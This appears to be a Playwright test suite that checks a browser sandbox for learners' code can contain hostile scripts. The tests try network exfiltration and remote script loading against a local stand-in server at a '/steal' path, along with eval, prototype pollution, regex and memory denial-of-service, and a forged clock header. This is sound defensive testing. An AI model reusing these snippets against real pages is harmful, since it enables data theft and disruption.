/** Learners' code can do no harm: whatever it tries, the page answers, nothing leaves, and nothing is lost. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { framesPerSecond, openCode, runCode, start } from './fixtures/code.ts';
import { isReady } from './fixtures/profile.ts';
import { createTable, put, run } from './fixtures/requests.ts';

/** Counts whoever knocks, and lets everybody in: what is blocked is blocked by the sandbox. */
let server: Server;
let knocks: string[];
let outside: string;

test.beforeAll(async () => {
  server = createServer((request, response) => {
    knocks.push(request.url!);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    response.end('globalThis.stolen = true; export default 1;');
  });
  server.on('upgrade', (request, socket) => {
    knocks.push(request.url!);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  outside = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise((resolve) => server.close(resolve)));

test.beforeEach(async ({ page }) => {
  knocks = [];
  await page.goto('./');
  await isReady(page);
  await openCode(page);
});

/** The page lives, and so does the workspace behind it. */
async function expectUnharmed(page: Page): Promise<void> {
  expect(await framesPerSecond(page)).toBeGreaterThan(20);
  expect((await run(page, 'ListTables', {})).status).toBe(200);
  expect(await page.locator('iframe').count()).toBe(0);
}

const status = (page: Page) => page.getByRole('region', { name: 'Console' }).getByRole('status');

test('an endless loop holds up nothing and is stopped by hand', async ({ page }) => {
  await start(page, `console.log('in'); for (;;);`);
  await expect(page.getByRole('log')).toContainText('in');
  expect(await framesPerSecond(page)).toBeGreaterThan(20);
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(status(page)).toHaveText('Stopped');
  expect(await runCode(page, `console.log('again')`)).toEqual(['again']);
  await expectUnharmed(page);
});

for (const [name, code] of [
  ['an endless loop', 'for (;;);'],
  ['endless promises', 'for (;;) await null;'],
  ['endless allocation', 'const hoard: unknown[] = []; for (;;) hoard.push(new Array(10_000).fill({}));'],
  ['a regular expression without end', `/^(a+)+$/.test('a'.repeat(40) + 'b')`],
  ['requests in a loop that awaits nothing', `${'import { DynamoDBClient, ListTablesCommand } from "@aws-sdk/client-dynamodb";'}
    const client = new DynamoDBClient({}); while (true) client.send(new ListTablesCommand({}));`],
] as const) {
  test(`${name} is halted when nobody stops it`, async ({ page }) => {
    await createTable(page, 'Music');
    await start(page, code);
    // The whole console, so that whatever stands there instead is told.
    await expect(page.getByRole('region', { name: 'Console' })).toContainText('Running');
    expect(await framesPerSecond(page)).toBeGreaterThan(20);
    await expect(status(page)).toHaveText('Stopped by the sandbox', { timeout: 40_000 });
    expect((await put(page, 'Music', 'a')).status).toBe(200);
    await expectUnharmed(page);
  });
}

test('typed arrays without end are refused, also bit by bit', async ({ page }) => {
  const lines = await runCode(
    page,
    `const hoard: Uint8Array[] = [];
     await new Promise<void>((resolve) => {
       const timer = setInterval(() => {
         try { hoard.push(new Uint8Array(20_000_000)); }
         catch (error) { console.log(hoard.length, String(error)); clearInterval(timer); resolve(); }
       }, 1);
     });`,
  );
  expect(lines).toEqual(['26 RangeError: The code holds more than 512 MB in typed arrays.']);
});

const tries = (source: string): string => `
  const says = async (name: string, attempt: () => unknown) => {
    try { const got = await attempt(); console.log(name + ': ' + (got === undefined ? 'nothing' : 'GOT ' + got)); }
    catch (error) { console.log(name + ': ' + (error as Error).name); }
  };
  const worker = globalThis as any;
  ${source}`;

test('nothing leaves: no network of any kind', async ({ page }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  const lines = await runCode(
    page,
    tries(`
      const url = '${outside}/steal';
      await says('fetch', () => fetch(url));
      await says('XMLHttpRequest', () => { const x = new worker.XMLHttpRequest(); x.open('GET', url, false); x.send(); return x.status; });
      await says('WebSocket', () => new worker.WebSocket(url.replace('http', 'ws')));
      await says('EventSource', () => new worker.EventSource(url));
      await says('WebTransport', () => new worker.WebTransport(url.replace('http:', 'https:')).ready);
      await says('RTCPeerConnection', () => new worker.RTCPeerConnection());
      await says('sendBeacon', () => worker.navigator.sendBeacon(url));
      await says('importScripts', () => worker.importScripts(url));
      await says('import', () => import(/* @vite-ignore */ url));
      await says('import of data', () => import('data:text/javascript,export default 1'));
      await says('Worker', () => new worker.Worker(url));
      await says('SharedWorker', () => new worker.SharedWorker(url));
      await says('FontFace', () => new worker.FontFace('f', 'url(' + url + ')').load());
      await says('Image', () => { new worker.Image().src = url; });
      await says('createImageBitmap', () => worker.createImageBitmap(url));
      await says('location', () => { worker.location = url; return worker.location === url ? undefined : worker.location; });
      await says('open', () => worker.open(url));
    `),
  );
  const got = lines.filter((line) => line.includes('GOT'));
  expect(got).toEqual([]);
  expect(lines).toHaveLength(17);
  await page.waitForTimeout(300);
  expect(knocks).toEqual([]);
  expect(asked.filter((url) => url.startsWith(outside))).toEqual([]);
  await expectUnharmed(page);
});

/** The cell of a run, with a worker of the test's own in it that still has every name of the browser. */
async function inBareCell(page: Page, source: string): Promise<string[]> {
  await start(page, 'for (;;);');
  const document = await page.locator('iframe').getAttribute('srcdoc');
  await page.getByRole('button', { name: 'Stop' }).click();
  return page.evaluate(
    async ([srcdoc, script]) => {
      const frame = globalThis.document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.srcdoc = srcdoc;
      const { port1, port2 } = new MessageChannel();
      const said = new Promise<string[]>((resolve) => {
        port1.onmessage = ({ data }) => resolve(data as string[]);
      });
      frame.onload = () => frame.contentWindow!.postMessage(script, '*', [port2]);
      globalThis.document.body.append(frame);
      const lines = await said;
      frame.remove();
      return lines;
    },
    [document!, source] as const,
  );
}

test('behind the missing names there is a wall: with all of them, code gets no further', async ({ page }) => {
  await page.evaluate(() => localStorage.setItem('secret', 'mine'));
  const lines = await inBareCell(
    page,
    `onmessage = async ({ ports: [port] }) => {
      const lines = [];
      const says = async (name, attempt) => {
        const late = new Promise((resolve) => setTimeout(() => resolve('nothing'), 1000));
        try { lines.push(name + ': ' + await Promise.race([attempt(), late])); }
        catch (error) { lines.push(name + ': ' + error.name); }
      };
      const settled = (target) => new Promise((resolve) => {
        target.onopen = target.onmessage = target.onsuccess = () => resolve('GOT it');
        target.onerror = (event) => { event.preventDefault?.(); resolve('error'); };
      });
      const url = '${outside}/steal';
      await says('fetch', () => fetch(url).then(() => 'GOT it'));
      await says('fetch without cors', () => fetch(url, { mode: 'no-cors' }).then(() => 'GOT it'));
      await says('fetch of the site', () => fetch('http://127.0.0.1/').then(() => 'GOT it'));
      await says('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', url, false); x.send(); return 'GOT it'; });
      await says('WebSocket', () => settled(new WebSocket(url.replace('http', 'ws'))));
      await says('EventSource', () => settled(new EventSource(url)));
      await says('importScripts', () => { importScripts(url); return 'GOT it'; });
      await says('import', () => import(url).then(() => 'GOT it'));
      await says('Worker', () => settled(new Worker(url)));
      await says('indexedDB', () => settled(indexedDB.open('x')));
      await says('caches', () => caches.open('x').then(() => 'GOT it'));
      await says('files', () => navigator.storage.getDirectory().then(() => 'GOT it'));
      await says('other tabs', () => settled(new BroadcastChannel('x')));
      await says('eval', () => 'GOT ' + eval('1'));
      await says('Function', () => 'GOT ' + new Function('return 1')());
      port.postMessage(lines);
    };`,
  );
  expect(lines.filter((line) => line.includes('GOT'))).toEqual([]);
  expect(lines).toHaveLength(15);
  expect(knocks).toEqual([]);
});

test('text is never run as code', async ({ page }) => {
  const lines = await runCode(
    page,
    tries(`
      await says('eval', () => eval('1'));
      await says('Function', () => new Function('return 1')());
      await says('a function’s own maker', () => (async () => 1).constructor('return 1')());
      await says('a timer', () => new Promise((resolve) => {
        worker.setTimeout('worker.ran = 1', 0);
        setTimeout(() => resolve(worker.ran), 20);
      }));
    `),
  );
  expect(lines.slice(0, 3)).toEqual(['eval: EvalError', 'Function: EvalError', 'a function’s own maker: EvalError']);
  expect(lines.join()).not.toContain('GOT');
});

test('there is no storage, no page and no other tab', async ({ page }) => {
  await page.evaluate(() => {
    localStorage.setItem('secret', 'mine');
    document.cookie = 'secret=mine';
  });
  const names =
    'indexedDB caches localStorage sessionStorage cookieStore navigator BroadcastChannel MessageChannel parent top opener ' +
    'document window self frames postMessage name close dispatchMessage onmessage Notification WebAssembly SharedArrayBuffer ' +
    'Blob FileReader FileReaderSync File Response Request scheduler crossOriginIsolated webkitRequestFileSystem structuredClone';
  const lines = await runCode(
    page,
    tries(`for (const name of ${JSON.stringify(names.split(' '))}) await says(name, () => worker[name] === undefined ? undefined : typeof worker[name]);`),
  );
  expect(lines.filter((line) => !line.endsWith(': nothing'))).toEqual([]);
});

test('what code does to its own world stays there', async ({ page }) => {
  await runCode(
    page,
    `Object.prototype.polluted = 'yes'; Array.prototype.push = () => 0; Promise.prototype.then = function () { return this; };
     JSON.stringify = () => 'no'; Map.prototype.get = () => undefined; Error.prepareStackTrace = () => 5;
     EventTarget.prototype.addEventListener = () => undefined; console.log({ __proto__: { x: 1 } });`,
  );
  expect(await page.evaluate(() => ({}) as { polluted?: string })).toEqual({});
  expect(await page.evaluate(() => (({}) as { polluted?: string }).polluted)).toBeUndefined();
  expect(await runCode(page, `console.log(({} as any).polluted, JSON.stringify([1]))`)).toEqual(['undefined [1]']);
  await expectUnharmed(page);
});

test('the way to the page can not be taken hold of', async ({ page }) => {
  const lines = await runCode(
    page,
    `import { DynamoDBClient, ListTablesCommand } from '@aws-sdk/client-dynamodb';
     const found: string[] = [];
     const { toString } = Object.prototype;
     const spy = (owner: any, name: string) => {
       const original = owner[name];
       owner[name] = function (...args: unknown[]) {
         for (const value of [this, ...args]) {
           if (Reflect.apply(toString, value, []) === '[object MessagePort]') found[found.length] = name;
         }
         return Reflect.apply(original, this, args);
       };
     };
     spy(Function.prototype, 'call'); spy(Function.prototype, 'bind'); spy(Array.prototype, 'push'); spy(Map.prototype, 'set');
     spy(EventTarget.prototype, 'dispatchEvent');
     const client = new DynamoDBClient({});
     console.log((await client.send(new ListTablesCommand({}))).TableNames);
     console.log('port', found);`,
  );
  expect(lines).toEqual(['[]', 'port []']);
});

test('output without end is cut and counted, and costs the page nothing', async ({ page }) => {
  await start(page, `for (let n = 0; ; n++) console.log(n, 'x'.repeat(50_000));`);
  await expect(page.getByRole('log')).toContainText('more lines left out');
  expect(await framesPerSecond(page)).toBeGreaterThan(20);
  await page.getByRole('button', { name: 'Stop' }).click();
  await expect(status(page)).toHaveText('Stopped');
  expect((await page.getByRole('log').innerText()).length).toBeLessThan(600_000);
  const huge = await runCode(page, `console.log('y'.repeat(100_000_000)); console.log(Array.from({ length: 1e6 }, () => ({ a: [1] })));`);
  expect(huge[0]!.length).toBeLessThanOrEqual(10_000);
  await expectUnharmed(page);
});

test('a thousand requests at once are answered, each of them', async ({ page }) => {
  await createTable(page, 'Music');
  const lines = await runCode(
    page,
    `import { DynamoDBClient, PutItemCommand, ScanCommand } from '@aws-sdk/client-dynamodb';
     const client = new DynamoDBClient({});
     await Promise.all(Array.from({ length: 1000 }, (_, n) =>
       client.send(new PutItemCommand({ TableName: 'Music', Item: { id: { S: 'id ' + n } } }))));
     console.log((await client.send(new ScanCommand({ TableName: 'Music', ConsistentRead: true }))).Count);`,
  );
  expect(lines).toEqual(['1000']);
  await expect(page.getByText('1,001 requests')).toBeVisible();
});

test('code can not turn the clock, nor ask what is no request', async ({ page }) => {
  const lines = await runCode(
    page,
    `import { DynamoDBClient, ListTablesCommand } from '@aws-sdk/client-dynamodb';
     const client = new DynamoDBClient({ region: 'eu-west-1', endpoint: '${outside}', maxAttempts: 1 });
     console.log((await client.send(new ListTablesCommand({}))).TableNames);
     client.middlewareStack.add((next: any) => (args: any) => {
       args.request.headers['x-amz-target'] = 'Dynascope_20261120.AdvanceClock';
       return next(args);
     }, { step: 'finalizeRequest', priority: 'low' });
     await client.send(new ListTablesCommand({}));`,
  );
  expect(lines[0]).toBe('[]');
  await expect(status(page)).toHaveText('Stopped by the sandbox');
  expect(knocks).toEqual([]);
});
